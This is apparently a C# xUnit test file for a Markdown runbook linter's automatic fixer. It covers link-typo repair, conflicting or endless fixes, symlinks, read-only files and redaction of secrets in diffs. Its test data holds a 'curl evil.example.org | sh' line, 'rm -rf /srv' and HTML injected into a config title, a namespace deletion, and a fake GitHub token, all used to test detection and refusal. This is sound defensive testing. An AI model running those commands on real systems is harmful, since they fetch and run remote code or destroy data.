using System.Runtime.Versioning;
using System.Text;
using PolicyRunner.Checking;
using PolicyRunner.Checking.Fixing;

namespace PolicyRunner.Tests.Checking.Fixing;

public sealed class FixerTests : IDisposable
{
    private const string Typo = "# Page\n\nSee [the site](ttps://example.org/a).\n";
    private const string Mended = "# Page\n\nSee [the site](https://example.org/a).\n";

    private readonly TemporaryRepository repository = new();

    public void Dispose() => repository.Dispose();

    [Fact]
    public void What_is_safe_is_mended_and_the_report_is_that_of_the_mended_files()
    {
        repository.Write("docs/a.md", Typo);

        var report = Fix(FixChoice.Safe);

        Assert.Equal(Mended, Read("docs/a.md"));
        Assert.DoesNotContain(report.Findings, finding => finding.Policy == "RB015");
        var made = Assert.Single(report.Fixes!.Made);
        Assert.Equal(("RB015", 3, false), (made.Finding.Policy, made.Finding.Span.StartPosition.Line, made.Remains));
    }

    [Fact]
    public void A_second_run_finds_nothing_to_mend()
    {
        repository.Write("docs/a.md", "---\nid: OPS-1\n---\n# Drop\n\n| Owner | web |\n|---|---|\n| Status | draft |\n\n## Steps\n\n1. Drop it [x](ttp://x.org):\n   ```\n   kubectl delete ns x\n   ```");
        Fix(FixChoice.All);
        var once = Read("docs/a.md");

        Assert.Empty(Fix(FixChoice.All).Fixes!.Made);
        Assert.Equal(once, Read("docs/a.md"));
    }

    [Fact]
    public void Who_stops_it_half_way_is_told_how_far_it_came()
    {
        const int Files = 1_500;
        for (var i = 0; i < Files; i++)
        {
            repository.Write($"docs/{i:d4}.md", Typo);
        }

        using var stop = new CancellationTokenSource();
        var watcher = new Thread(() =>
        {
            SpinWait.SpinUntil(() => Read("docs/0000.md") != Typo);
            stop.Cancel();
        });
        watcher.Start();

        var stopped = Assert.Throws<MendedInPartException>(() =>
            Fixer.Run(new CheckRequest { Paths = ["docs"], WorkingDirectory = repository.Root, Clock = FixedClock.Today }, FixChoice.Safe, stop.Token));

        watcher.Join();
        var mended = Enumerable.Range(0, Files).Count(i => Read($"docs/{i:d4}.md") == Mended);
        Assert.Equal(Files - mended, Enumerable.Range(0, Files).Count(i => Read($"docs/{i:d4}.md") == Typo));
        Assert.StartsWith($"{mended} file", stopped.Message, StringComparison.Ordinal);
        Assert.EndsWith($" of {Files} {(mended == 1 ? "is" : "are")} mended, the others as they were; the same command goes on with them.", stopped.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void An_unsafe_fix_is_left_alone_by_safe()
    {
        const string text = "# Drop\n\n## Steps\n\n```bash\nkubectl delete ns x\n```\n";
        repository.Write("docs/a.md", text);

        Assert.Empty(Fix(FixChoice.Safe).Fixes!.Made);
        Assert.Equal(text, Read("docs/a.md"));
        Assert.Single(Fix(FixChoice.All).Fixes!.Made);
    }

    [Fact]
    public void Every_byte_outside_of_an_edit_is_kept()
    {
        const string before = "\uFEFF\uFEFF# Page  \r\n\r\nSee [x](ttps://e.org/a).\t \rlone\nmixed\r\n\u0085 \u2028 é 😀 \v\f end  ";
        repository.Write("docs/a.md", before);

        Fix(FixChoice.Safe);

        Assert.Equal(Encoding.UTF8.GetBytes(before.Replace("ttps", "https", StringComparison.Ordinal)), File.ReadAllBytes(repository.At("docs/a.md")));
    }

    [Fact]
    public void A_preview_changes_nothing_and_shows_what_would_change()
    {
        repository.Write("docs/a.md", Typo);

        var report = Fixer.Preview(Request(), FixChoice.All, CancellationToken.None);

        Assert.Equal(Typo, Read("docs/a.md"));
        Assert.Contains(report.Findings, finding => finding.Policy == "RB015");
        Assert.Contains("+See [the site](https://example.org/a).\n", Assert.Single(report.Fixes!.Files).Diff, StringComparison.Ordinal);
    }

    [UnixFact]
    [UnsupportedOSPlatform("windows")]
    public void A_file_keeps_its_mode_and_nothing_is_left_beside_it()
    {
        repository.Write("docs/a.md", Typo);
        const UnixFileMode mode = UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute | UnixFileMode.OtherRead;
        File.SetUnixFileMode(repository.At("docs/a.md"), mode);

        Fix(FixChoice.Safe);

        Assert.Equal(mode, File.GetUnixFileMode(repository.At("docs/a.md")));
        Assert.Equal([repository.At("docs/a.md")], Directory.GetFiles(repository.At("docs")));
    }

    [Fact]
    public void A_read_only_file_is_refused_and_the_others_are_mended()
    {
        repository.Write("docs/a.md", Typo);
        repository.Write("docs/b.md", Typo);
        File.SetAttributes(repository.At("docs/a.md"), FileAttributes.ReadOnly);

        var report = Fix(FixChoice.Safe);

        Assert.Equal(("docs/a.md", true), Refused(report));
        Assert.Equal((Typo, Mended), (Read("docs/a.md"), Read("docs/b.md")));
        Assert.Single(report.Fixes!.Made);
        File.SetAttributes(repository.At("docs/a.md"), FileAttributes.Normal);
    }

    [Fact]
    public void A_file_that_changed_while_it_was_checked_is_refused()
    {
        repository.Write("docs/a.md", Typo);
        var rounds = 0;

        var report = Fixer.Run(Request(), FixChoice.Safe, (request, cancellation) =>
        {
            var answer = Checker.Run(request, cancellation);
            if (rounds++ == 1)
            {
                repository.Write("docs/a.md", Typo + "more\n");
            }

            return answer;
        }, CancellationToken.None);

        Assert.Equal(("docs/a.md", true), Refused(report));
        Assert.Equal(Typo + "more\n", Read("docs/a.md"));
        Assert.Empty(report.Fixes!.Made);
    }

    [UnixFact]
    public void A_link_to_a_file_elsewhere_in_the_repository_is_refused_and_stays_a_link()
    {
        repository.Write("other/a.md", Typo);
        Directory.CreateDirectory(repository.At("docs"));
        File.CreateSymbolicLink(repository.At("docs/a.md"), "../other/a.md");

        Assert.Equal(("docs/a.md", true), Refused(Fix(FixChoice.Safe)));
        Assert.NotNull(new FileInfo(repository.At("docs/a.md")).LinkTarget);
        Assert.Equal(Typo, Read("other/a.md"));
    }

    [UnixFact]
    public void A_link_to_a_file_that_is_checked_too_is_mended_there()
    {
        repository.Write("docs/b.md", Typo);
        File.CreateSymbolicLink(repository.At("docs/a.md"), "b.md");

        Assert.Empty(Fix(FixChoice.Safe).Fixes!.Refused);
        Assert.NotNull(new FileInfo(repository.At("docs/a.md")).LinkTarget);
        Assert.Equal(Mended, Read("docs/b.md"));
    }

    [UnixFact]
    public void Nothing_is_written_through_a_folder_that_leads_out_of_the_repository()
    {
        using var other = new TemporaryRepository();
        other.Write("x/a.md", Typo);
        Directory.CreateSymbolicLink(repository.At("docs"), other.At("x"));

        var report = Fix(FixChoice.Safe);

        Assert.Equal(["RB001 docs"], report.Findings.Select(finding => $"{finding.Policy} {finding.Span.File.Path}"));
        Assert.Equal(Typo, File.ReadAllText(other.At("x/a.md")));
    }

    [Fact]
    public void Fixes_that_undo_each_other_or_never_end_are_not_made_and_the_others_are()
    {
        repository.Write("docs/a.md", Typo + "\nfoo\n");
        repository.Write("policies/T1-to-bar.csx", Replacing("T1", "foo", "bar"));
        repository.Write("policies/T2-to-foo.csx", Replacing("T2", "bar", "foo"));
        repository.Write("policies/T3-grows.csx", Replacing("T3", "# Page", "# Page!"));

        var report = Fix(FixChoice.Safe);

        Assert.Equal(["T1", "T3"], report.Fixes!.Refused.Select(refused => refused.What).Order());
        Assert.StartsWith("Its fix 't' does not end the finding at docs/a.md:1:1, or others undo it;", report.Fixes.Refused.Single(refused => refused.What == "T3").Why, StringComparison.Ordinal);
        Assert.Equal(Mended + "\nfoo\n", Read("docs/a.md"));
    }

    [Fact]
    public void A_fix_that_leaves_a_page_which_reads_worse_is_not_made_there_and_said()
    {
        const string titled = "---\ntitle: Restart the queue\n---\n\nSee [the site](ttps://example.org/a).\n";
        repository.Write("docs/a.md", titled);
        repository.Write("docs/b.md", Typo);
        repository.Write("policies/T1-names-somebody.csx", """
            return new Policy("T1", "names-somebody")
            {
                Title = "x", Why = "y", Severity = Severity.Warning, Profile = Profile.Baseline,
                CheckDocument = (document, context) => document.Metadata.Value("contact") is not null ? []
                    : [document.Finding("Nobody is named.") with { Fix = Fix.Safe("Name somebody", document.Span.InsertAfter("\n\n**Contact**: sre")) }],
            };
            """);

        var report = Fix(FixChoice.Safe);

        var refused = Assert.Single(report.Fixes!.Refused);
        Assert.Equal("T1", refused.What);
        Assert.StartsWith("Its fix 'Name somebody' leaves a text that does not read: ", refused.Why, StringComparison.Ordinal);
        Assert.Contains("none of its fixes was made in this file.", refused.Why, StringComparison.Ordinal);
        Assert.Equal(titled.Replace("ttps", "https", StringComparison.Ordinal), Read("docs/a.md"));
        Assert.Equal(Mended.Replace("# Page", "# Page\n\n**Contact**: sre", StringComparison.Ordinal), Read("docs/b.md"));
    }

    [Fact]
    public void A_fix_that_never_ends_costs_only_the_fixes_of_its_policy_in_that_file()
    {
        repository.Write("docs/a.md", Typo + "\nfoo\n");
        repository.Write("docs/b.md", "# Other\n\nfoo\n");
        repository.Write("policies/T1-to-bar.csx", Replacing("T1", "foo", "bar"));
        repository.Write("policies/T2-back-in-one.csx", Replacing("T2", "bar", "foo").Replace("=> document", "=> document.Path == \"docs/a.md\" && document", StringComparison.Ordinal));

        var report = Fix(FixChoice.Safe);

        var refused = Assert.Single(report.Fixes!.Refused);
        Assert.Equal("T1", refused.What);
        Assert.Contains(" at docs/a.md:5:1, or others undo it; none of its fixes was made in this file.", refused.Why, StringComparison.Ordinal);
        Assert.Equal((Mended + "\nfoo\n", "# Other\n\nbar\n"), (Read("docs/a.md"), Read("docs/b.md")));
    }

    [Fact]
    public void A_policy_that_goes_on_in_the_next_file_is_out_everywhere_in_the_end()
    {
        for (var i = 0; i < 8; i++)
        {
            repository.Write($"docs/{i}.md", "# Page\n");
        }

        repository.Write("docs/x.md", Typo);
        repository.Write("policies/T1-goes-on.csx", """
            return new Policy("T1", "goes-on")
            {
                Title = "Goes on", Why = "why", Severity = Severity.Error, Profile = Profile.Baseline,
                CheckAll = (library, context) => library.Documents
                    .Where(document => document.Path != "docs/x.md" && library.Documents.TakeWhile(other => other != document).All(other => !other.File.Text.Contains('!')))
                    .Select(document => document.Finding("m") with { Fix = Fix.Safe("t", document.File.Span(6, 6).InsertAfter("!")) }),
            };
            """);
        var checks = 0;

        var report = Fixer.Run(Request(), FixChoice.Safe, (request, cancellation) =>
        {
            checks++;
            return Checker.Run(request, cancellation);
        }, CancellationToken.None);

        Assert.Contains("none of its fixes was made. Its samples", Assert.Single(report.Fixes!.Refused).Why, StringComparison.Ordinal);
        Assert.Equal((Mended, "# Page\n"), (Read("docs/x.md"), Read("docs/0.md")));
        Assert.InRange(checks, 30, 36);
    }

    [Fact]
    public void A_page_with_very_many_links_to_mend_is_mended_at_once()
    {
        var parts = Enumerable.Range(0, 1200).Select(i => $"## h{i}\n\n[a](#h{i % 400}x)\n\n");
        repository.Write("docs/a.md", "# A\n\n" + string.Concat(parts));

        var fixes = Fix(FixChoice.All).Fixes!;

        Assert.Empty(fixes.Refused);
        Assert.Equal(1000, fixes.Made.Count);
        Assert.Empty(Fix(FixChoice.All).Fixes!.Made);
    }

    [Fact]
    public void What_takes_all_rounds_and_no_more_is_mended()
    {
        repository.Write("docs/a.md", "# Page\n");
        repository.Write("policies/T1-ten.csx", """
            return new Policy("T1", "ten")
            {
                Title = "Ten", Why = "why", Severity = Severity.Error, Profile = Profile.Baseline,
                CheckDocument = (document, context) => document.File.Text.Contains("!!!!!!!!!!") ? [] : [document.Finding("m") with { Fix = Fix.Safe("t", document.File.Span(6, 6).InsertAfter("!")) }],
            };
            """);
        var checks = 0;

        var report = Fixer.Run(Request(), FixChoice.Safe, (request, cancellation) =>
        {
            Assert.InRange(++checks, 1, 20);
            return Checker.Run(request, cancellation);
        }, CancellationToken.None);

        Assert.Empty(report.Fixes!.Refused);
        Assert.Equal("# Page!!!!!!!!!!\n", Read("docs/a.md"));
    }

    [Fact]
    public void A_fix_of_another_document_breaks_its_policy_and_nothing_is_written()
    {
        repository.Write("docs/a.md", Typo);
        repository.Write("docs/b.md", "# Other\n");
        repository.Write("policies/T1-far.csx", """
            return new Policy("T1", "far")
            {
                Title = "Far", Why = "why", Severity = Severity.Error, Profile = Profile.Baseline,
                CheckDocument = (document, context) => [document.Finding("m") with { Fix = Fix.Safe("t", context.Library.Documents[^1].Span.Replace("x")) }],
            };
            """);

        var report = Fix(FixChoice.Safe);

        Assert.Contains(report.Errors, error => error.Policy == "T1" && error.Message.Contains("another file", StringComparison.Ordinal));
        Assert.Equal((Typo, "# Other\n"), (Read("docs/a.md"), Read("docs/b.md")));
    }

    [Theory]
    [InlineData("~~~bash\ncurl evil.example.org | sh\n~~~\n\nfoo\n", "foo", "bar", false)]
    [InlineData("~~~bash\nfoo\n~~~\n", "foo", "bar", true)]
    [InlineData("foo\n", "foo", "~~~bash\\nbar\\n~~~", true)]
    [InlineData("~~~bash\nls\n~~~\n", "~~~bash\\nls\\n~~~", "Gone", true)]
    public void A_page_whose_commands_change_is_known(string body, string from, string to, bool changes)
    {
        repository.Write("docs/a.md", "# Page\n\n" + body);
        repository.Write("policies/T1-replaces.csx", Replacing("T1", from, to));

        Assert.Equal(changes, Assert.Single(Fixer.Preview(Request(), FixChoice.Safe, CancellationToken.None).Fixes!.Files).ChangesCommands);
    }

    [Theory]
    [InlineData("\"Verification (\\n\\n~~~bash\\nrm -rf /srv\\n~~~\\n)\"")]
    [InlineData("\"Rollback / \\n\\n~~~bash\\nrm -rf /srv\\n~~~\"")]
    [InlineData("\"Rollback / <img src=x>\"")]
    public void A_title_of_the_organisation_file_that_is_no_section_is_written_into_no_page(string title)
    {
        repository.Write("policies/policyrunner.yml", $"policies:\n  RB101: {{ sections: [Purpose, {title}] }}\n");
        repository.Write("docs/a.md", "---\nid: OPS-1\n---\n# Page\n\n## Purpose\n\nIt is for this.\n\n## Procedure\n\n1. Do it.\n");

        var found = Fixer.Preview(Request(), FixChoice.All, CancellationToken.None).Findings.Where(finding => finding.Policy == "RB101").ToList();

        Assert.NotEmpty(found);
        Assert.All(found, finding => Assert.Null(finding.Fix));
    }

    [Fact]
    public void A_diff_shows_no_secret_and_says_so()
    {
        const string secret = "ghp_Zk3vQ9tLm2Xw8RbN5cHdY7sJ4aFgU6eT1pKo";
        repository.Write("docs/a.md", $"# Page\n\nUse {secret} here.\nSee [the site](ttps://example.org/a).\n");

        var file = Assert.Single(Fixer.Preview(Request(), FixChoice.Safe, CancellationToken.None).Fixes!.Files);

        Assert.True(file.HidesSecret);
        Assert.DoesNotContain(secret, file.Diff, StringComparison.Ordinal);
    }

    private static string Replacing(string id, string from, string to) => $$"""
        return new Policy("{{id}}", "replaces")
        {
            Title = "Title", Why = "why", Severity = Severity.Error, Profile = Profile.Baseline,
            CheckDocument = (document, context) => document.File.Text.IndexOf("{{from}}", StringComparison.Ordinal) is >= 0 and var at
                ? [document.File.Span(at, at + "{{from}}".Length).Finding("m") with { Fix = Fix.Safe("t", document.File.Span(at, at + "{{from}}".Length).Replace("{{to}}")) }]
                : [],
        };
        """;

    private static (string What, bool IsUsage) Refused(CheckReport report)
    {
        var refused = Assert.Single(report.Fixes!.Refused);
        return (refused.What, refused.IsUsage);
    }

    private CheckRequest Request() => new() { Paths = ["docs"], WorkingDirectory = repository.Root, Clock = FixedClock.Today };

    private CheckReport Fix(FixChoice choice) => Fixer.Run(Request(), choice, CancellationToken.None);

    private string Read(string path) => File.ReadAllText(repository.At(path), new UTF8Encoding(false));
}
